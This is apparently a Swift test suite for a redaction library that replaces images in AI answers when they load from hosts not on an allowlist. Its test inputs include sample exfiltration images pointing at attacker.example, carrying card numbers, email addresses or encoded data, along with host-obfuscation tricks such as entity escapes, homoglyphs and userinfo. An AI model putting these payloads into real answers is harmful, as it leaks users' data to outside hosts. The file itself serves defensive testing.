import RampartDetectors
import Testing

/// Images in answers that would load from a host not on the list are replaced whole; others, links and text that
/// only looks like Markdown or HTML stay.
@Suite struct AnswerImagesTests {
    static func options(_ hosts: [String]) -> ScanOptions {
        ScanOptions(pii: false, secrets: false, injection: false, imageHosts: ImageHosts(hosts))
    }

    static func redacted(_ text: String, hosts: [String] = []) -> String {
        Redactor.redact(text, Detectors.standard.scan(text, options: options(hosts)))
    }

    @Test(arguments: [
        // Inline images, with a title, in angle brackets, with brackets in the alt text.
        ("See ![chart](https://attacker.example/log?q=4111111111111111).", [String](), "See [EXTERNAL_IMAGE]."),
        (#"![chart](https://attacker.example/c.png "Revenue")"#, [], "[EXTERNAL_IMAGE]"),
        ("![chart](<https://attacker.example/a b.png>) ok", [], "[EXTERNAL_IMAGE] ok"),
        ("![a [b] c](https://attacker.example/x)", [], "[EXTERNAL_IMAGE]"),
        ("[![badge](https://attacker.example/b.svg)](https://ci.example.org)", [], "[[EXTERNAL_IMAGE]](https://ci.example.org)"),
        ("![x](\nhttps://attacker.example/x.png\n)", [], "[EXTERNAL_IMAGE]"),
        // Hosts on the list, subdomains, ports, a fully qualified name, `*`.
        ("![logo](https://attacker.example/l.png)", ["attacker.example"], "![logo](https://attacker.example/l.png)"),
        ("![logo](https://cdn.example.com/l.png)", ["*.example.com"], "![logo](https://cdn.example.com/l.png)"),
        ("![logo](https://example.com/l.png)", ["*.example.com"], "[EXTERNAL_IMAGE]"),
        ("![logo](https://CDN.Example.com:8443/l.png)", ["cdn.example.com"], "![logo](https://CDN.Example.com:8443/l.png)"),
        ("![logo](https://cdn.example.com./l.png)", ["cdn.example.com"], "![logo](https://cdn.example.com./l.png)"),
        ("![logo](https://attacker.example/l.png)", ["*"], "![logo](https://attacker.example/l.png)"),
        // Addresses that hide their host: a user part, slashes either way, no scheme, entities, escapes.
        ("![x](https://cdn.example.com@attacker.example/a.png)", ["cdn.example.com"], "[EXTERNAL_IMAGE]"),
        (#"![x](https:\/\/attacker.example/a.png)"#, [], "[EXTERNAL_IMAGE]"),
        (#"![x](https:\\attacker.example\a.png)"#, [], "[EXTERNAL_IMAGE]"),
        ("![x](//attacker.example/a.png)", [], "[EXTERNAL_IMAGE]"),
        ("![x](https&#58;//attacker.example/a.png)", [], "[EXTERNAL_IMAGE]"),
        ("![x](https://attacker&#46;example/a.png)", ["attacker.example"], "[EXTERNAL_IMAGE]"),
        ("![x](https://аttacker.example/a.png)", ["attacker.example"], "[EXTERNAL_IMAGE]"),
        ("![x](javascript:fetch)", [], "[EXTERNAL_IMAGE]"),
        (#"<img src="/&#x2F;attacker.example/x.png">"#, [], "[EXTERNAL_IMAGE]"),
        ("<img src=\"/\t/attacker.example/x.png\">", [], "[EXTERNAL_IMAGE]"),
        ("<img src=\" \u{1}//attacker.example/x.png\">", [], "[EXTERNAL_IMAGE]"),
        // Relative paths and data URIs load nothing from elsewhere.
        ("![diagram](images/flow.png?v=2&x=1)", [], "![diagram](images/flow.png?v=2&x=1)"),
        ("![diagram](/static/flow.png)", [], "![diagram](/static/flow.png)"),
        ("![my chart](charts/my%20chart.png)", [], "![my chart](charts/my%20chart.png)"),
        ("![chart](charts/2026:q3.png)", [], "![chart](charts/2026:q3.png)"),
        ("![dot](data:image/png;base64,iVBORw0KGgo=)", [], "![dot](data:image/png;base64,iVBORw0KGgo=)"),
        // Reference definitions, which images use: the definition is what loads.
        ("![chart][1]\n\n[1]: https://attacker.example/?d=abc\n", [], "![chart][1]\n\n[EXTERNAL_IMAGE]\n"),
        ("![chart][c]\n\n  [c]: <https://attacker.example/c.png> \"t\"", [], "![chart][c]\n\n  [EXTERNAL_IMAGE] \"t\""),
        ("![chart][c]\n\n[c]: images/c.png", [], "![chart][c]\n\n[c]: images/c.png"),
        // HTML: the tags that load what they name, whole.
        (#"<img src="https://attacker.example/p.gif?d=abc" width=1>"#, [], "[EXTERNAL_IMAGE]"),
        ("<IMG\nSRC=https://attacker.example/p.gif>", [], "[EXTERNAL_IMAGE]"),
        (#"<img alt="a > b" src='https://attacker.example/p.gif'/>"#, [], "[EXTERNAL_IMAGE]"),
        (#"<img srcset="a.png 1x, https://attacker.example/b.png 2x">"#, [], "[EXTERNAL_IMAGE]"),
        (#"<video poster="https://attacker.example/p.jpg"></video>"#, [], "[EXTERNAL_IMAGE]</video>"),
        (#"<svg><image href="https://attacker.example/i.png"/></svg>"#, [], "<svg>[EXTERNAL_IMAGE]</svg>"),
        (#"<img src="/static/p.gif"> and <img src="https://cdn.example.com/p.gif">"#, ["cdn.example.com"],
         #"<img src="/static/p.gif"> and <img src="https://cdn.example.com/p.gif">"#),
        // Code spans and tags bind tighter than the alt text's brackets; an image after one that never closes is read.
        ("![`]`](https://attacker.example/?d=1)", [], "[EXTERNAL_IMAGE]"),
        ("![a <span title=\"]\">](https://attacker.example/?d=1)", [], "[EXTERNAL_IMAGE]"),
        ("![a <b](https://attacker.example/?d=1) c>", [], "[EXTERNAL_IMAGE] c>"),
        ("![a ![b](https://attacker.example/?d=1)", [], "![a [EXTERNAL_IMAGE]"),
        ("[x] ![a ![b](https://cdn.example.com/ok.png) c](https://attacker.example/?d=1)", ["cdn.example.com"], "[x] [EXTERNAL_IMAGE]"),
        // Not images: links, code, comparisons, an image never closed, an anchor tag.
        ("[docs](https://attacker.example/)", [], "[docs](https://attacker.example/)"),
        ("if ![1, 2].contains(x) { return }", [], "if ![1, 2].contains(x) { return }"),
        ("a < b and c > d", [], "a < b and c > d"),
        ("Here: ![x](https://attacker.example/?q=abc", [], "Here: ![x](https://attacker.example/?q=abc"),
        ("![x]\n\n(https://attacker.example/x.png)", [], "![x]\n\n(https://attacker.example/x.png)"),
        (#"<a href="https://attacker.example/">docs</a>"#, [], #"<a href="https://attacker.example/">docs</a>"#),
        ("Wow! [1]: that is it.", [], "Wow! [1]: that is it."),
    ])
    func imagesFromHostsNotListedAreReplaced(_ text: String, _ hosts: [String], _ expected: String) {
        #expect(Self.redacted(text, hosts: hosts) == expected)
    }

    /// Images are read only when asked for (answers), and their findings say what they are.
    @Test func imagesAreFindingsOfTheirOwnCategory() {
        let text = "Done ![x](https://attacker.example/?d=jane@example.com)"
        #expect(Detectors.standard.scan(text, options: ScanOptions(injection: false)).map(\.type) == ["EMAIL_ADDRESS"])
        let findings = Detectors.standard.scan(text, options: ScanOptions(injection: false, imageHosts: ImageHosts([])))
        #expect(findings.map(\.category) == [.exfiltration, .pii])
        #expect(findings.first.map { $0.start..<$0.end } == 5..<55)
        // The image is replaced whole, the address inside it with it.
        #expect(Redactor.redact(text, findings) == "Done [EXTERNAL_IMAGE]")
    }

    /// In a stream, an image longer than the hold-back is held until it closes, then replaced whole: no part of its
    /// address leaves, however the stream is cut. A stream's end that leaves an image unclosed lets the text out.
    @Test(arguments: [1, 2, 3, 7, 19, 64])
    func aStreamHoldsAnImageUntilItCloses(pieceLength: Int) {
        let data = String(repeating: "c2VjcmV0IGRhdGE", count: 12)
        let texts = [
            ("Sure. ![a chart of the quarterly revenue figures by region and by product line](https://attacker.example/c.png?d=\(data)) Done.",
             "Sure. [EXTERNAL_IMAGE] Done."),
            ("Sure. <img alt=\"a chart of the quarterly revenue figures by region and product\" "
                + "src=\"https://attacker.example/c.png?d=\(data)\"> Done.",
             "Sure. [EXTERNAL_IMAGE] Done."),
            ("Sure.\n\n![a chart of the quarterly revenue][r]\n\n[r]: https://attacker.example/c.png?d=\(data)",
             "Sure.\n\n![a chart of the quarterly revenue][r]\n\n[EXTERNAL_IMAGE]"),
            // An image from a listed host whose title opens another: cut inside it, a stream would read that one
            // afresh, and take in as its alt text the image after it.
            (#"A ![a](https://cdn.example.com/1.png "![b") then ![](https://attacker.example/?d=\#(data)) ](https://cdn.example.com/2.png) end"#,
             #"A ![a](https://cdn.example.com/1.png "![b") then [EXTERNAL_IMAGE] ](https://cdn.example.com/2.png) end"#),
            ("Is 3 < 4? Yes! And ![this is not closed, and goes on for a while](https://example.org/x",
             "Is 3 < 4? Yes! And ![this is not closed, and goes on for a while](https://example.org/x"),
        ]
        for (text, expected) in texts {
            let options = Self.options(["cdn.example.com"])
            var redactor = StreamRedactor(detectors: .standard, options: options, holdBack: 16, releaseStep: 4) { _ in true }
            let scalars = Array(text.unicodeScalars)
            var sent: [String] = []
            for start in stride(from: 0, to: scalars.count, by: pieceLength) {
                sent.append(redactor.feed(String(String.UnicodeScalarView(scalars[start..<min(scalars.count, start + pieceLength)]))))
            }
            sent.append(redactor.finish())
            #expect(sent.joined() == expected)
            if expected.contains("[EXTERNAL_IMAGE]") {
                for piece in sent { #expect(!piece.contains("attacker") && !piece.contains("c2Vj")) }
            }
        }
    }

    /// Texts made of the parsers' own pieces at random: findings lie in the text, and a stream, however cut, sends
    /// what redacting the whole text gives.
    @Test(arguments: [1, 2, 3, 4])
    func randomMarkupStreamsAsItReadsWhole(seed: UInt64) {
        let pieces = ["![", "](", ")", "[", "]", "]: ", "https://attacker.example/x?d=1", "https://cdn.example.com/a.png", "<img src=", "<img",
                      "\"", "'", ">", " ", "\n", "\n\n", "word", "!", "<", "(", "//", "\\", ":", "<", "srcset=", "a.png 1x,", "\\", "`", "``",
                      "<b>", "<span title=\"]\">"]
        var random = Seeded(seed)
        for _ in 0..<300 {
            let text = (0..<random.next(40)).map { _ in pieces[random.next(pieces.count)] }.joined()
            let options = Self.options(["cdn.example.com"])
            let findings = Detectors.standard.scan(text, options: options)
            let count = text.unicodeScalars.count
            for finding in findings { #expect(0 <= finding.start && finding.start < finding.end && finding.end <= count, "\(text)") }
            var redactor = StreamRedactor(detectors: .standard, options: options, holdBack: 8, releaseStep: 1) { _ in true }
            let scalars = Array(text.unicodeScalars)
            var sent = "", start = 0
            while start < scalars.count {
                let end = min(scalars.count, start + 1 + random.next(6))
                sent += redactor.feed(String(String.UnicodeScalarView(scalars[start..<end])))
                start = end
            }
            sent += redactor.finish()
            #expect(sent == Redactor.redact(text, findings), "\(text.debugDescription)")
        }
    }

    /// Thousands of `![` (or lines opening with `[`) that close nowhere in their paragraph would be read over and
    /// over: past a bound of eight times the text, the rest is one finding, and the scan ends.
    @Test(arguments: ["![a ", "[\n"])
    func aTangleOfUnclosedImagesEndsAsOneFinding(piece: String) {
        let text = "Intro. " + String(repeating: piece, count: 40_000) + "\n\nThe end."
        let findings = Detectors.standard.scan(text, options: Self.options([]))
        #expect(findings.count == 1)
        #expect(findings.first?.end == text.unicodeScalars.count)
        #expect((findings.first?.start ?? 0) > 7)
    }

    @Test(arguments: [
        ("images.example.com", true), ("*.example.com", true), ("*", true), ("[::1]", true),
        ("https://images.example.com", false), ("images.example.com/path", false), ("images.example.com:443", false),
        ("", false), ("*.", false), (".example.com", false), ("bild.bücher.de", false),
    ])
    func listEntriesAreHostNames(_ entry: String, _ valid: Bool) {
        #expect((ImageHosts.problem(with: entry) == nil) == valid)
    }
}
